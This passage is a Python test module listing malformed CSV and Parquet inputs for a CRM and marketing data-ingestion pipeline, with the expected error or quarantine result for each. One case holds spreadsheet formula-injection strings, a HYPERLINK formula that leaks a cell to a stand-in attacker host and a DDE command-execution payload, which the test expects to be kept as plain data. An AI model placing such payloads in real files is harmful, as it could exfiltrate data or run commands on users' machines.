"""A corpus of bad inputs, each with its expected outcome.

Every case is one row of `CASES`: the object it feeds, the file (generated text, a builder, or a
corpus file of `bad_inputs/` where the exact bytes matter) and what must happen:

* `Fails`: a clear error (`ExtractError`) whose message names the file and the column or row;
* `Loads`: the rows read, kept and quarantined (with their reason and row number) and the values
  of the kept rows. Every load must balance: rows read = rows kept + rows quarantined, in the
  result, in the tables and in `ops.row_accounting`.

`sources.yaml` mistakes are cases of `SOURCES_CASES` (`SourcesConfigError` naming the file and the
entry). What only the whole graph can show (MDM conflicts, sync cycles, orphans, unknown leads,
future events) is one scenario, `graph`, materialized once for all its tests.
"""

from __future__ import annotations

import csv
import io
import json
import math
import os
import shutil
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from dagster import AssetCheckSeverity

from b2b_assets.sources.catalog import FX_RATES, OBJECTS_BY_TYPE, ObjectSpec
from b2b_assets.sources.config import SourcesConfigError, load_sources
from b2b_assets.sources.reader import ExtractError, ReadContext, ReadResult, load_object
from b2b_assets_tests.conftest import Landing, materialize_env

CORPUS = Path(__file__).resolve().parent / "bad_inputs"
_CHECKSUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZ012345"


def sf18(id15: str) -> str:
    """The 18-character form of a 15-character Salesforce id (independent of the product)."""
    assert len(id15) == 15
    return id15 + "".join(
        _CHECKSUM[sum(1 << i for i, ch in enumerate(id15[s : s + 5]) if "A" <= ch <= "Z")]
        for s in (0, 5, 10)
    )


# --------------------------------------------------------------------------------------------
# The expected outcomes
# --------------------------------------------------------------------------------------------

RowRef = int | tuple[str, int]  # a row of the only file, or (file name, row) across parts


@dataclass(frozen=True)
class Fails:
    """A clear error naming the file (`file`, relative to the object's folder) and `names`."""

    names: tuple[str, ...]
    file: str | None = None  # default: the file the case wrote
    error: type[Exception] = ExtractError


@dataclass(frozen=True)
class Loads:
    """Rows read/kept, the quarantined rows (row -> reason fragment), values of kept rows."""

    read: int
    kept: int
    quarantined: Mapping[RowRef, str] = field(default_factory=dict)
    values: Mapping[RowRef, Mapping[str, Any]] = field(default_factory=dict)
    record_contains: Mapping[RowRef, str] = field(default_factory=dict)


Content = str | bytes | Callable[[Path], None]


@dataclass(frozen=True)
class Case:
    """One bad input: `content` is the text of `<folder>/<file>`, a corpus file name
    (`corpus:<name>`), or a builder writing into the object's folder."""

    id: str
    source_type: str
    obj: str
    content: Content
    expect: Fails | Loads
    file: str | None = None  # default: <obj>.csv
    instance: str | None = None  # default: crm_1 / marketo_1 / mdm / reference data

    @property
    def spec(self) -> ObjectSpec:
        if self.source_type == "reference":
            return FX_RATES
        return next(s for s in OBJECTS_BY_TYPE[self.source_type] if s.name == self.obj)

    @property
    def source_instance(self) -> str:
        if self.instance is not None:
            return self.instance
        return {"salesforce": "crm_1", "marketo": "marketo_1", "mdm": "mdm", "reference": ""}[
            self.source_type
        ]


def text(header: Sequence[str], *rows: Sequence[Any], newline: str = "\n") -> str:
    """A CSV document, quoted as RFC 4180 requires; `None` is an empty cell."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=newline)
    writer.writerow(header)
    for row in rows:
        writer.writerow(["" if cell is None else cell for cell in row])
    return out.getvalue()


def parquet(frame: dict[str, list[Any]], name: str) -> Callable[[Path], None]:
    def build(folder: Path) -> None:
        pl.DataFrame(frame).write_parquet(folder / name)

    return build


def parts(files: Mapping[str, str | bytes]) -> Callable[[Path], None]:
    """Several files (e.g. parts of an object folder), written in order."""

    def build(folder: Path) -> None:
        for name, content in files.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))

    return build


def ten_megabyte_name(folder: Path) -> None:
    big = "x" * (10 * 1024 * 1024)
    (folder / "Account.csv").write_text(
        text(["Id", "Name", "IsDeleted"], [A1, big, "false"], [A2, "After the big one", "false"])
    )


# Salesforce ids (15 characters) of the raw-level cases
A1, A2, A3, A4 = "0015g00000J1Uin", "0015g00000jgrcA", "0015g00000MBiin", "0015g00000Abcde"
C1, C2, C3 = "0035g00000FXhB9", "0035g000005YwVA", "0035g00000tWqnj"
O1, O2, O3, O4 = "0065g00000dR0Nx", "0065g00000ZJnmK", "0065g00000vcMOy", "0065g00000wpK5l"
OPP_HEADER = ["Id", "AccountId", "Amount", "IsClosed", "IsWon", "CloseDate", "CurrencyIsoCode"]
LEAD_HEADER = ["id", "email", "unsubscribed", "updatedAt"]
ACT_HEADER = ["marketoGUID", "leadId", "activityDate", "activityTypeId", "attributes"]
XREF_HEADER = ["golden_id", "source_instance", "source_record_id", "is_active", "updated_at"]
T0 = "2026-10-03T09:12:44Z"


def ts(text_: str) -> datetime:
    return datetime.fromisoformat(text_.replace("Z", "+00:00")).astimezone(UTC)


CASES: list[Case] = [
    # ---------------------------------------------------------------- files and encodings
    Case("account_empty_file", "salesforce", "Account", "", Fails(("Account", "empty"))),
    Case("account_bom_only", "salesforce", "Account", b"\xef\xbb\xbf", Fails(("Account",))),
    Case(
        "opportunity_empty_optional_file",
        "salesforce",
        "Opportunity",
        "",
        Loads(0, 0),
    ),
    Case(
        "account_header_only",
        "salesforce",
        "Account",
        "Id,Name,IsDeleted\n",
        Loads(0, 0),
    ),
    Case(
        "account_latin1_header",
        "salesforce",
        "Account",
        "corpus:account_latin1_header.csv",
        Fails(("header", "UTF-8")),
    ),
    Case(
        "account_latin1_row",
        "salesforce",
        "Account",
        "corpus:account_latin1_row.csv",
        Loads(
            3,
            2,
            quarantined={2: "malformed row: invalid encoding"},
            values={1: {"name": "Townsend"}, 3: {"name": "Zürich Versicherung"}},
            record_contains={2: "0015g00000jgrcA"},
        ),
    ),
    Case(
        "account_bom_and_crlf",
        "salesforce",
        "Account",
        "corpus:account_bom_crlf.csv",
        Loads(
            2,
            2,
            values={
                1: {"id": sf18(A1), "name": "Townsend", "last_modified_date": ts(T0)},
                2: {"id": sf18(A2), "website": "globex.com", "is_deleted": False},
            },
        ),
    ),
    Case(
        "account_unbalanced_quote_runs_to_end_of_file",
        "salesforce",
        "Account",
        "corpus:account_unbalanced_quote.csv",
        # RFC 4180: the open quote swallows the rest of the file into row 2, which is
        # quarantined with that text, so row 3's content is not silently lost.
        Loads(
            2,
            1,
            quarantined={2: "malformed row"},
            values={1: {"name": "Townsend"}},
            record_contains={2: "Initech"},
        ),
    ),
    Case(
        "account_truncated_last_line",
        "salesforce",
        "Account",
        "corpus:account_truncated.csv",
        Loads(
            3,
            2,
            quarantined={3: "malformed row: missing columns"},
            values={2: {"name": "Globex", "last_modified_date": ts("2026-10-04T00:00:00Z")}},
            record_contains={3: "initec"},
        ),
    ),
    Case(
        "contact_mixed_line_endings",
        "salesforce",
        "Contact",
        "corpus:contact_mixed_line_endings.csv",
        Loads(
            3,
            3,
            values={
                1: {"last_name": "Ng", "account_id": sf18(A1)},
                2: {"last_name": "Olsen\r\nJr.", "email": "p2@townsend.com"},
                3: {"last_name": "Hopper", "id": sf18(C3)},
            },
        ),
    ),
    Case(
        "leads_bom_crlf_quoted_newline",
        "marketo",
        "leads",
        "corpus:leads_bom_crlf_quoted.csv",
        Loads(
            2,
            2,
            values={
                1: {"title": "VP\r\nOperations", "company": 'Townsend "The Best", Inc.'},
                2: {"id": "48212", "title": "IT Director"},
            },
        ),
    ),
    Case(
        "account_xref_cr_only_line_endings",
        "mdm",
        "account_xref",
        "corpus:account_xref_cr_only.csv",
        Loads(
            2,
            2,
            values={
                1: {"golden_id": "G-TOWNSEND"},
                2: {"source_instance": "crm_2", "is_active": True},
            },
        ),
    ),
    Case(
        "account_ten_megabyte_field",
        "salesforce",
        "Account",
        ten_megabyte_name,
        Loads(
            2, 2, values={1: {"name": "x" * (10 * 1024 * 1024)}, 2: {"name": "After the big one"}}
        ),
    ),
    Case(
        "account_corrupt_parquet",
        "salesforce",
        "Account",
        b"PAR1 this is not a parquet file",
        Fails(("Account.parquet",)),
        file="Account.parquet",
    ),
    Case(
        "account_parquet_missing_required_column",
        "salesforce",
        "Account",
        parquet({"Id": [A1], "Website": ["townsend.com"]}, "Account.parquet"),
        Fails(("Name",), file="Account.parquet"),
    ),
    Case(
        "contact_utf16_export",
        "salesforce",
        "Contact",
        "corpus:contact_utf16.csv",
        Fails(("header", "UTF-8")),
    ),
    Case(
        "account_excel_sep_line_before_header",
        "salesforce",
        "Account",
        f"sep=,\nId,Name\n{A1},Townsend\n",
        Fails(("missing required column", "Id", "Name")),
    ),
    Case(
        "account_spark_style_part_folder",
        "salesforce",
        "Account",
        parts(
            {
                "Account/_SUCCESS": "",
                "Account/.part-00000.csv.crc": "crc",
                "Account/_temporary.csv": "not,an,extract\n",
                "Account/part-00000.csv": text(["Id", "Name"], [A1, "Townsend"]),
                "Account/part-00001.csv": text(["Id", "Name"], [A2, "Globex"]),
            }
        ),
        Loads(
            2,
            2,
            values={
                ("part-00000.csv", 1): {"name": "Townsend"},
                ("part-00001.csv", 1): {"id": sf18(A2)},
            },
        ),
    ),
    Case(
        "account_parquet_decimal_in_integer_column",
        "salesforce",
        "Account",
        parquet(
            {"Id": [A1, A2], "Name": ["Decimal staff", "Whole"], "NumberOfEmployees": [12.7, 40.0]},
            "Account.parquet",
        ),
        Loads(
            2,
            1,
            quarantined={1: "NumberOfEmployees: not an integer"},
            values={2: {"number_of_employees": 40}},
        ),
        file="Account.parquet",
    ),
    Case(
        "account_semicolon_separated",
        "salesforce",
        "Account",
        f"Id;Name\n{A1};Townsend\n",
        Fails(("Id", "Name")),
    ),
    # ---------------------------------------------------------------- columns
    Case(
        "leads_missing_required_email_column",
        "marketo",
        "leads",
        text(["id", "firstName", "updatedAt"], ["48211", "Paula", T0]),
        Fails(("email",)),
    ),
    Case(
        "opportunity_missing_required_amount_column",
        "salesforce",
        "Opportunity",
        text(["Id", "AccountId", "IsClosed", "IsWon"], [O1, A1, "true", "true"]),
        Fails(("Amount",)),
    ),
    Case(
        "account_xref_missing_golden_id_column",
        "mdm",
        "account_xref",
        text(["source_instance", "source_record_id"], ["crm_1", A1]),
        Fails(("golden_id",)),
    ),
    Case(
        "account_two_spellings_of_one_column",
        "salesforce",
        "Account",
        text(["Id", "Name", "NAME"], [A1, "Townsend", "Townsend Inc."]),
        Fails(("'Name'", "'NAME'")),
    ),
    Case(
        "leads_snake_and_camel_spelling_of_one_column",
        "marketo",
        "leads",
        text(["id", "email", "sfdcContactId", "sfdc_contact_id"], ["1", "a@x.com", C1, C1]),
        Fails(("sfdcContactId", "sfdc_contact_id")),
    ),
    Case(
        "leads_unknown_extra_columns_in_another_order",
        "marketo",
        "leads",
        text(
            ["leadScore", "updatedAt", "Email Opt In", "EMAIL", "ID", "lead_source", "first_name"],
            ["87", T0, "yes", "p1@townsend.com", "48211", "Webinar", "Paula"],
        ),
        Loads(
            1,
            1,
            values={
                1: {
                    "id": "48211",
                    "email": "p1@townsend.com",
                    "first_name": "Paula",
                    "updated_at": ts(T0),
                    "unsubscribed": False,
                }
            },
        ),
    ),
    Case(
        "activities_columns_in_another_order_with_blanks_in_header",
        "marketo",
        "activities",
        text(
            [" attributes ", "activityTypeId", " leadId", "activity_date", "MARKETOGUID"],
            ['{\n  "Webpage URL": "/products/new-software"\n}', "1", "48212", T0, "102988"],
        ),
        Loads(
            1,
            1,
            values={
                1: {
                    "marketo_guid": "102988",
                    "lead_id": "48212",
                    "activity_type_id": 1,
                    "activity_date": ts(T0),
                }
            },
        ),
    ),
    # ---------------------------------------------------------------- keys and duplicates
    Case(
        "leads_null_and_blank_ids",
        "marketo",
        "leads",
        text(
            LEAD_HEADER,
            ["", "a@x.com", "", ""],
            ["NULL", "b@x.com", "", ""],
            [" null ", "c@x.com", "", ""],
            ["\t", "d@x.com", "", ""],
            ["  48299 ", "e@x.com", "", ""],
        ),
        Loads(
            5,
            1,
            quarantined={r: "id: missing key" for r in (1, 2, 3, 4)},
            values={5: {"id": "48299", "email": "e@x.com"}},
        ),
    ),
    Case(
        "account_blank_ids_with_tabs",
        "salesforce",
        "Account",
        text(
            ["Id", "Name"],
            [" ", "space"],
            ["\t", "tab"],
            [" \t ", "spaces and a tab"],
            ["null", "null token"],
            [A1, "Townsend"],
        ),
        # A blank id is a missing key, whatever blanks it is made of: kept as '' it would
        # become the source key '@crm_1'.
        Loads(5, 1, quarantined={r: "Id: missing key" for r in (1, 2, 3, 4)}),
    ),
    Case(
        "account_xref_empty_source_record_id",
        "mdm",
        "account_xref",
        text(XREF_HEADER, ["G-1", "crm_1", "", "true", ""], ["G-1", "crm_1", A1, "", ""]),
        Loads(
            2, 1, quarantined={1: "source_record_id: missing key"}, values={2: {"is_active": True}}
        ),
    ),
    Case(
        "leads_duplicate_ids_latest_updated_at_wins",
        "marketo",
        "leads",
        text(
            LEAD_HEADER,
            ["48211", "middle@x.com", "false", "2026-10-01T00:00:00Z"],
            ["48211", "latest@x.com", "false", "2026-10-02T01:00:00+02:00"],  # 23:00Z on 1 Oct
            ["48211", "oldest@x.com", "false", "2026-01-01T00:00:00Z"],
            ["48211", "newest@x.com", "false", "2026-10-01T23:30:00Z"],
            ["48212", "other@x.com", "false", None],
        ),
        Loads(
            5,
            2,
            quarantined={1: "duplicate key", 2: "duplicate key", 3: "duplicate key"},
            values={4: {"email": "newest@x.com"}, 5: {"email": "other@x.com"}},
            record_contains={3: "oldest@x.com"},
        ),
    ),
    Case(
        "contact_duplicate_without_date_loses_to_dated_row",
        "salesforce",
        "Contact",
        text(
            ["Id", "AccountId", "Email", "LastModifiedDate"],
            [C1, A1, "dated@x.com", "2020-01-01T00:00:00Z"],
            [sf18(C1), A1, "undated@x.com", None],
        ),
        Loads(2, 1, quarantined={2: "duplicate key"}, values={1: {"email": "dated@x.com"}}),
    ),
    Case(
        "contact_duplicate_same_timestamp_later_file_wins",
        "salesforce",
        "Contact",
        parts(
            {
                "Contact/2026-10-01.csv": text(
                    ["Id", "AccountId", "Email", "LastModifiedDate"], [C1, A1, "first@x.com", T0]
                ),
                "Contact/2026-10-02.csv": text(
                    ["Id", "AccountId", "Email", "LastModifiedDate"],
                    [sf18(C1), sf18(A1), "second@x.com", T0],
                ),
            }
        ),
        Loads(
            2,
            1,
            quarantined={("2026-10-01.csv", 1): "duplicate key"},
            values={("2026-10-02.csv", 1): {"email": "second@x.com", "id": sf18(C1)}},
        ),
    ),
    Case(
        "account_xref_same_record_in_two_golden_ids_latest_wins",
        "mdm",
        "account_xref",
        text(
            XREF_HEADER,
            ["G-NEW", "crm_1", sf18(A1), "true", "2026-10-01T00:00:00Z"],
            ["G-OLD", "crm_1", sf18(A1), "true", "2026-01-01T00:00:00Z"],
            ["G-OTHER", "crm_2", sf18(A1), "true", "2025-01-01T00:00:00Z"],
        ),
        Loads(
            3,
            2,
            quarantined={2: "duplicate key"},
            values={1: {"golden_id": "G-NEW"}, 3: {"golden_id": "G-OTHER"}},
        ),
    ),
    Case(
        "program_members_duplicate_composite_key_later_row_wins",
        "marketo",
        "program_members",
        text(
            ["programId", "leadId", "status", "reachedSuccess"],
            ["1041", "48211", "Registered", "false"],
            ["1041", "48212", "Attended", "true"],
            ["1041", " 48211", "Attended", "Y"],
        ),
        Loads(
            3,
            2,
            quarantined={1: "duplicate key"},
            values={3: {"status": "Attended", "reached_success": True}},
        ),
    ),
    Case(
        "account_ids_15_and_18_characters_and_case",
        "salesforce",
        "Account",
        text(
            ["Id", "Name", "LastModifiedDate"],
            [A1, "Old", "2026-01-01T00:00:00Z"],
            [sf18(A1), "New", "2026-10-01T00:00:00Z"],
            # Differs from A1 only in case: another record, and the checksum tells them apart.
            [A1.upper(), "Upper-case twin", "2026-10-01T00:00:00Z"],
        ),
        Loads(
            3,
            2,
            quarantined={1: "duplicate key"},
            values={2: {"id": sf18(A1), "name": "New"}, 3: {"id": sf18(A1.upper())}},
        ),
    ),
    Case(
        "opportunity_ids_15_and_18_characters_mixed",
        "salesforce",
        "Opportunity",
        text(
            [*OPP_HEADER, "LastModifiedDate"],
            [sf18(O1), A1, "100", "true", "true", "2026-06-30", "USD", "2026-05-01T00:00:00Z"],
            [O1, sf18(A1), "200", "true", "true", "2026-06-30", "USD", "2026-06-01T00:00:00Z"],
            [O2, " " + A1 + " ", "300", "false", "false", None, None, None],
        ),
        Loads(
            3,
            2,
            quarantined={1: "duplicate key"},
            values={
                2: {"id": sf18(O1), "account_id": sf18(A1), "amount": 200.0},
                3: {"id": sf18(O2), "account_id": sf18(A1)},
            },
        ),
    ),
    Case(
        "leads_crm_ids_15_and_18_characters",
        "marketo",
        "leads",
        text(
            ["id", "email", "sfdcContactId", "sfdcAccountId", "externalCompanyId"],
            ["48211", "a@x.com", C1, sf18(A1), A1],
        ),
        Loads(
            1,
            1,
            values={
                1: {
                    "sfdc_contact_id": sf18(C1),
                    "sfdc_account_id": sf18(A1),
                    "external_company_id": sf18(A1),
                }
            },
        ),
    ),
    # ---------------------------------------------------------------- emails and names
    Case(
        "contact_invalid_mixed_case_and_spaced_emails_are_kept_verbatim",
        "salesforce",
        "Contact",
        text(
            ["Id", "AccountId", "Email"],
            [C1, A1, " P2@Townsend.COM "],
            [C2, A1, "not-an-email"],
            [C3, A1, "p 3@town send.com"],
            ["0035g00000NoMai", A1, None],
            ["0035g00000Null1", A1, "NULL"],
        ),
        Loads(
            5,
            5,
            values={
                1: {"email": " P2@Townsend.COM "},
                2: {"email": "not-an-email"},
                3: {"email": "p 3@town send.com"},
                4: {"email": None},
                5: {"email": None},
            },
        ),
    ),
    Case(
        "account_formula_like_names_are_data",
        "salesforce",
        "Account",
        text(
            ["Id", "Name", "Website"],
            [A1, '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "=1+1"],
            [A2, "+cmd|' /C calc'!A0", "-2+3"],
            [A3, "@SUM(1+1)", "\t=1"],
        ),
        Loads(
            3,
            3,
            values={
                1: {
                    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
                    "website": "=1+1",
                },
                2: {"name": "+cmd|' /C calc'!A0", "website": "-2+3"},
                3: {"name": "@SUM(1+1)", "website": "\t=1"},
            },
        ),
    ),
    # ---------------------------------------------------------------- numbers and currencies
    Case(
        "opportunity_non_numeric_negative_and_huge_amounts",
        "salesforce",
        "Opportunity",
        text(
            OPP_HEADER,
            [O1, A1, "12abc", "true", "true", None, "USD"],
            [O2, A1, "-500", "true", "true", None, "USD"],
            [O3, A1, "1e400", "true", "true", None, "USD"],
            [O4, A1, "99999999999999999999", "true", "true", None, "USD"],
            ["0065g00000NaNxx", A1, "NaN", "true", "true", None, "USD"],
            ["0065g00000Infxx", A1, "-Infinity", "true", "true", None, "USD"],
            ["0065g00000Dolla", A1, "$100", "true", "true", None, "USD"],
            ["0065g00000Space", A1, " 250 ", "true", "true", None, "USD"],
        ),
        # 1e20 is a number, but no plausible amount: beyond 10^15 it would overflow rollups.
        Loads(
            8,
            2,
            quarantined={r: "Amount: not a number below 10^15" for r in (1, 3, 4, 5, 6, 7)},
            values={2: {"amount": -500.0}, 8: {"amount": 250.0}},
            record_contains={1: "12abc", 7: "$100"},
        ),
    ),
    Case(
        "opportunity_amounts_with_thousands_separators",
        "salesforce",
        "Opportunity",
        text(
            OPP_HEADER,
            [O1, A1, "1,200,000", "true", "true", None, "USD"],
            [O2, A1, "1.200.000,50", "true", "true", None, "EUR"],
            [O3, A1, "1 000", "true", "true", None, "USD"],
            [O4, A1, "1200000.50", "true", "true", None, "USD"],
        ),
        Loads(
            4,
            1,
            quarantined={1: "Amount", 2: "Amount", 3: "Amount"},
            values={4: {"amount": 1200000.5}},
        ),
    ),
    Case(
        "opportunity_unknown_and_oddly_written_currencies",
        "salesforce",
        "Opportunity",
        text(
            OPP_HEADER,
            [O1, A1, "100", "true", "true", None, "XYZ"],
            [O2, A1, "100", "true", "true", None, " eur "],
            [O3, A1, "100", "true", "true", None, "US Dollar"],
            [O4, A1, "100", "true", "true", None, "NULL"],
        ),
        Loads(
            4,
            2,
            quarantined={1: "CurrencyIsoCode", 3: "CurrencyIsoCode"},
            values={2: {"currency_iso_code": " eur "}, 4: {"currency_iso_code": None}},
            record_contains={1: "XYZ"},
        ),
    ),
    Case(
        "account_integer_with_decimals_or_separators",
        "salesforce",
        "Account",
        text(
            ["Id", "Name", "NumberOfEmployees", "AnnualRevenue"],
            [A1, "Decimal staff", "12.7", "1"],
            [A2, "Thousands", "1,200", "1"],
            [A3, "Revenue with separator", "10", "250,000,000"],
            [A4, "Fine", "1200", "2.5e8"],
        ),
        # 12.7 is not an integer: quarantined, never rounded to 13.
        Loads(
            4,
            1,
            quarantined={1: "NumberOfEmployees", 2: "NumberOfEmployees", 3: "AnnualRevenue"},
            values={4: {"number_of_employees": 1200, "annual_revenue": 2.5e8}},
        ),
    ),
    Case(
        "activities_type_id_that_is_not_an_integer",
        "marketo",
        "activities",
        text(
            ACT_HEADER,
            ["1", "48212", T0, "1.5", None],
            ["2", "48212", T0, "visit", None],
            ["3", "48212", T0, " 1 ", None],
        ),
        # "1.5" must not become type 2 (Fill Out Form).
        Loads(
            3,
            1,
            quarantined={1: "activityTypeId", 2: "activityTypeId"},
            values={3: {"activity_type_id": 1}},
        ),
    ),
    Case(
        "fx_rates_zero_negative_non_numeric_and_duplicate",
        "reference",
        "fx_rates",
        text(
            ["currency", "rate_to_usd"],
            ["EUR", "1.05"],
            ["GBP", "0"],
            ["JPY", "-0.0066"],
            ["CHF", "one"],
            ["EUR", "1.08"],
        ),
        Loads(
            5,
            1,
            quarantined={2: "rate_to_usd", 3: "rate_to_usd", 4: "rate_to_usd", 1: "duplicate key"},
            values={5: {"rate_to_usd": 1.08}},
        ),
    ),
    # ---------------------------------------------------------------- dates and booleans
    Case(
        "opportunity_other_date_formats_and_impossible_dates",
        "salesforce",
        "Opportunity",
        text(
            OPP_HEADER,
            [O1, A1, "1", "true", "true", "06/30/2026", "USD"],
            [O2, A1, "1", "true", "true", "2026-02-30", "USD"],
            [O3, A1, "1", "true", "true", "30.06.2026", "USD"],
            [O4, A1, "1", "true", "true", "20260630", "USD"],
            ["0065g00000Ts000", A1, "1", "true", "true", "2026-06-30T00:00:00Z", "USD"],
            ["0065g00000Leap0", A1, "1", "true", "true", "2028-02-29", "USD"],
        ),
        Loads(
            6,
            2,
            quarantined={r: "CloseDate: not a date" for r in (1, 2, 3, 4)},
            values={5: {"close_date": date(2026, 6, 30)}, 6: {"close_date": date(2028, 2, 29)}},
        ),
    ),
    Case(
        "account_other_timestamp_formats_and_impossible_instants",
        "salesforce",
        "Account",
        text(
            ["Id", "Name", "LastModifiedDate"],
            [A1, "space separated", "2026-10-03 09:12:44"],
            [A2, "India offset", "2026-10-03T14:42:44+05:30"],
            [A3, "US format", "10/03/2026 09:12"],
            [A4, "epoch millis", "1759482764000"],
            ["0015g00000Leap0", "not a leap year", "2026-02-29T10:00:00Z"],
            ["0015g00000Hour0", "hour 25", "2026-10-03T25:00:00Z"],
        ),
        Loads(
            6,
            2,
            quarantined={r: "LastModifiedDate: not an ISO-8601 timestamp" for r in (3, 4, 5, 6)},
            values={1: {"last_modified_date": ts(T0)}, 2: {"last_modified_date": ts(T0)}},
        ),
    ),
    Case(
        "activities_future_and_impossible_dates",
        "marketo",
        "activities",
        text(
            ACT_HEADER,
            ["1", "48212", "2099-01-01T00:00:00Z", "1", None],
            ["2", "48212", "2026-11-31T10:00:00Z", "1", None],
            ["3", "48212", "yesterday", "1", None],
        ),
        Loads(
            3,
            1,
            quarantined={2: "activityDate", 3: "activityDate"},
            values={1: {"activity_date": ts("2099-01-01T00:00:00Z")}},
        ),
    ),
    Case(
        "contact_booleans_spelled_yes_y_t",
        "salesforce",
        "Contact",
        text(
            ["Id", "AccountId", "Email", "HasOptedOutOfEmail", "IsDeleted"],
            ["0035g00000Bool1", A1, "a@x.com", "Yes", "no"],
            ["0035g00000Bool2", A1, "b@x.com", "Y", "N"],
            ["0035g00000Bool3", A1, "c@x.com", " TRUE ", "f"],
            ["0035g00000Bool4", A1, "d@x.com", "t", "NO"],
            ["0035g00000Bool5", A1, "e@x.com", "", "null"],
            ["0035g00000Bool6", A1, "f@x.com", "oui", "false"],
            ["0035g00000Bool7", A1, "g@x.com", "2", "false"],
        ),
        Loads(
            7,
            5,
            quarantined={6: "HasOptedOutOfEmail: not a boolean", 7: "HasOptedOutOfEmail"},
            values={
                1: {"has_opted_out_of_email": True, "is_deleted": False},
                2: {"has_opted_out_of_email": True, "is_deleted": False},
                3: {"has_opted_out_of_email": True, "is_deleted": False},
                4: {"has_opted_out_of_email": True, "is_deleted": False},
                5: {"has_opted_out_of_email": False, "is_deleted": False},  # defaults
            },
        ),
    ),
    Case(
        "leads_consent_flags_spelled_yes_y",
        "marketo",
        "leads",
        text(
            ["id", "email", "unsubscribed", "marketingSuspended", "emailInvalid", "blackListed"],
            ["1", "a@x.com", "Yes", "N", "no", "0"],
            ["2", "b@x.com", "n", "y", "YES", "T"],
        ),
        Loads(
            2,
            2,
            values={
                1: {"unsubscribed": True, "marketing_suspended": False, "email_invalid": False},
                2: {"unsubscribed": False, "marketing_suspended": True, "black_listed": True},
            },
        ),
    ),
    # ---------------------------------------------------------------- MDM
    Case(
        "account_xref_unknown_and_misspelled_instances",
        "mdm",
        "account_xref",
        text(
            XREF_HEADER,
            ["G-1", "crm_9", A1, "true", None],
            ["G-1", "CRM_1", A1, "true", None],
            ["G-1", " crm_1 ", A1, "true", None],
            ["G-1", "crm-2", A2, "true", None],
        ),
        Loads(
            4,
            1,
            quarantined={1: "source_instance", 2: "source_instance", 4: "source_instance"},
            values={3: {"source_instance": "crm_1", "source_record_id": A1}},
            record_contains={1: "crm_9"},
        ),
    ),
    Case(
        "account_xref_is_active_spellings",
        "mdm",
        "account_xref",
        text(
            XREF_HEADER,
            ["G-1", "crm_1", A1, "N", None],
            ["G-1", "crm_1", A2, "", None],
            ["G-1", "crm_1", A3, "Yes", None],
            ["G-1", "crm_1", A4, "inactive", None],
        ),
        Loads(
            4,
            3,
            quarantined={4: "is_active: not a boolean"},
            values={1: {"is_active": False}, 2: {"is_active": True}, 3: {"is_active": True}},
        ),
    ),
    # ---------------------------------------------------------------- malformed rows
    Case(
        "campaign_member_rows_with_too_many_and_too_few_cells",
        "salesforce",
        "CampaignMember",
        "Id,CampaignId,ContactId,Status\n"
        "00v5g00000SGhC3,7015g00000cFQGn,0035g00000FXhB9,Attended\n"
        "00v5g00000FFHhh,7015g00000cFQGn,0035g000005YwVA,Attended,surplus,cells\n"
        "00v5g000005HiMu,7015g00000cFQGn\n"
        "00v5g00000qJArB,7015g000000VLm6,0035g00000tWqnj,Opened\n",
        Loads(
            4,
            2,
            quarantined={2: "malformed row: too many columns", 3: "malformed row: missing columns"},
            values={4: {"status": "Opened"}},
            record_contains={2: "surplus"},
        ),
    ),
]

CASE_IDS = [case.id for case in CASES]


# --------------------------------------------------------------------------------------------
# Running a case
# --------------------------------------------------------------------------------------------


def write_case(case: Case, root: Path) -> tuple[Path, Path]:
    """Write the case's file(s); return the object's folder and the file written."""
    folder = root / "env" / ("landing/" + case.source_instance if case.source_instance else "")
    folder.mkdir(parents=True, exist_ok=True)
    target = folder / (case.file or f"{case.obj}.csv")
    content = case.content
    if callable(content):
        content(folder)
    elif isinstance(content, str) and content.startswith("corpus:"):
        shutil.copyfile(CORPUS / content.removeprefix("corpus:"), target)
    else:
        target.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    return folder, target


def read_context(case: Case) -> ReadContext:
    return ReadContext(
        instance=case.source_instance,
        normalize_sf_ids=case.source_type == "salesforce" or case.source_instance == "marketo_1",
        currencies=("EUR", "GBP", "USD"),
        instances=("crm_1", "crm_2", "marketo_1", "mdm"),
        run_id="bad-inputs",
    )


def assert_balanced(con, case: Case, result: ReadResult) -> None:
    """rows read = kept + quarantined, in the result, the tables and ops.row_accounting."""
    assert result.rows_read == result.rows_kept + result.rows_quarantined
    (table_rows,) = con.execute(f"SELECT count(*) FROM {result.table}").fetchone()
    assert table_rows == result.rows_kept
    (quarantined,) = con.execute(
        "SELECT count(*) FROM raw.quarantine WHERE source_instance = $i AND object = $o",
        {"i": case.source_instance, "o": case.spec.name},
    ).fetchone()
    assert quarantined == result.rows_quarantined
    accounting = con.execute(
        """SELECT rows_read, rows_kept, rows_quarantined, reasons FROM ops.row_accounting
           WHERE source_instance = $i AND object = $o""",
        {"i": case.source_instance, "o": case.spec.name},
    ).fetchall()
    assert [row[:3] for row in accounting] == [
        (result.rows_read, result.rows_kept, result.rows_quarantined)
    ]
    assert sum(json.loads(accounting[0][3]).values()) == result.rows_quarantined


def row_ref(ref: RowRef, file_name: str) -> tuple[str, int]:
    return (ref[0], ref[1]) if isinstance(ref, tuple) else (file_name, ref)


def same_value(got: Any, want: Any) -> bool:
    if isinstance(want, float) and isinstance(got, float):
        return math.isclose(got, want, rel_tol=1e-12)
    return got == want


@pytest.mark.parametrize("case", CASES, ids=CASE_IDS)
def test_bad_input(case: Case, con, tmp_path: Path) -> None:
    folder, target = write_case(case, tmp_path)
    context = read_context(case)
    expect = case.expect
    if isinstance(expect, Fails):
        with pytest.raises(expect.error) as error:
            load_object(con, folder, case.spec, context)
        message = str(error.value)
        named = folder / expect.file if expect.file else target
        assert str(named) in message, f"the error does not name the file {named}: {message}"
        for name in expect.names:
            assert name in message, f"the error does not name {name!r}: {message}"
        return

    result = load_object(con, folder, case.spec, context)
    assert_balanced(con, case, result)
    assert (result.rows_read, result.rows_kept, result.rows_quarantined) == (
        expect.read,
        expect.kept,
        len(expect.quarantined),
    )
    quarantine = {
        (Path(file_name).name, row): (reason, record)
        for file_name, row, reason, record in con.execute(
